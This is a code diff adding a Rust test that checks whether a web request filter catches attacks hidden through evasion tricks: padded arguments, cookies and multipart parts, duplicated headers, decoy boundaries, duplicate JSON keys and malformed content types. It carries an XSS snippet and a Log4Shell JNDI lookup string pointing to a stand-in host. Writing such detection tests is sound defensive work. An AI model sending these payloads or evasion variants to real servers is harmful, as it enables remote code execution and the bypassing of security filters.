@@ -103,6 +103,46 @@ fn honest_people_pass() {
     assert!(cases.len() > 350);
 }
 
+/// Ways to hide an attack from whoever looks.
+#[test]
+fn nothing_hides() {
+    let managed = at(Sensitivity::Low);
+    let (script, jndi) = ("%3Cscript%3Ealert(1)%3C/script%3E", "${jndi:ldap://evil.example/a}");
+    let get = |url: String, headers: &[(&str, &str)]| serde_json::json!({ "url": url, "headers": headers });
+    let post = |kind: &[&str], body: String| {
+        let headers: Vec<_> = kind.iter().map(|k| ("content-type", k)).collect();
+        serde_json::json!({ "method": "POST", "url": "/", "headers": headers, "body": body })
+    };
+    let part = |name: &str, value: &str| format!("--b\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n");
+    let form = "application/x-www-form-urlencoded";
+    let multipart = "multipart/form-data; boundary=b";
+    let cases = [
+        ("behind many arguments", get(format!("/?{}q={script}", "a&".repeat(1_500)), &[])),
+        ("behind many cookies", get("/".to_owned(), &[("cookie", &format!("{}z={jndi}", "a=b; ".repeat(1_500)))])),
+        ("in a cookie's name", get("/".to_owned(), &[("cookie", &format!("{jndi}=a"))])),
+        ("in a cookie without a value", get("/".to_owned(), &[("cookie", jndi)])),
+        ("in the second user agent", get("/".to_owned(), &[("user-agent", "Mozilla/5.0"), ("user-agent", jndi)])),
+        ("in the second referer", get("/".to_owned(), &[("referer", "http://a/"), ("referer", jndi)])),
+        ("in an entity tag", get("/".to_owned(), &[("if-none-match", jndi)])),
+        ("behind many parts", post(&[multipart], format!("{}{}--b--", part("a", "x").repeat(1_500), part("z", jndi)))),
+        ("behind a decoy of a delimiter", post(&[multipart], format!("--b--junk\r\n{}--b--", part("z", jndi)))),
+        ("behind a comma for a semicolon", post(&["multipart/form-data, boundary=b"], format!("{}--b--", part("z", jndi)))),
+        ("without a boundary", post(&["multipart/form-data"], format!("{}--b--", part("z", jndi)))),
+        ("behind many texts", post(&["application/json"], serde_json::json!([vec!["a"; 1_500], jndi]).to_string())),
+        ("under a key that stands twice", post(&["application/json"], format!("{{\"a\": \"{jndi}\", \"a\": \"ok\"}}"))),
+        ("in broken JSON", post(&["application/json"], format!("{{\"a\": \"{jndi}\""))),
+        (
+            "in a form with a comma",
+            post(&["application/x-www-form-urlencoded, x"], "q=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D".to_owned()),
+        ),
+        ("in a form of two kinds", post(&["text/plain", form], "q=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D".to_owned())),
+        ("in a form that is none", post(&["text/plain"], "q=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D".to_owned())),
+    ];
+    for (how, request) in cases {
+        assert!(find(&managed, request.as_object().unwrap()).is_some(), "{how}");
+    }
+}
+
 /// Every rule is seen to work alone, and says what it is for.
 #[test]
 fn every_rule_has_its_tests_and_its_reason() {
